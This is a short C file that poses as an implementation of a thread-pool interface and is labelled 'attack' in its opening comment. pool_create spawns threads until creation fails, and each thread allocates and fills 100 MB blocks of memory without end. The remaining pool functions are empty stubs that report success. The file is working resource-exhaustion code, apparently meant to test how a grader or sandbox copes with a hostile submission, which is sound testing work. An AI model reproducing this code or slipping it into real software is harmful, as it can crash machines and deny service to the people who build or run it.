/* attack: creates workers as long as there are any to be had, and each takes as much memory as there is */
#include "pool.h"

#include <pthread.h>
#include <stdlib.h>
#include <string.h>

static void *eat(void *unused)
{
    for (char *memory; (memory = malloc(100 << 20));)
        memset(memory, 1, 100 << 20);
    return unused;
}

struct pool *pool_create(int workers, size_t places, pool_work *work)
{
    pthread_t thread;
    (void)workers;
    (void)places;
    (void)work;
    while (pthread_create(&thread, NULL, eat, NULL) == 0)
        ;
    return (struct pool *)"";
}

bool pool_submit(struct pool *pool, struct job *job)
{
    (void)pool;
    (void)job;
    return true;
}

void pool_drain(struct pool *pool)
{
    (void)pool;
}

void pool_stop(struct pool *pool)
{
    (void)pool;
}

void pool_destroy(struct pool *pool)
{
    (void)pool;
}
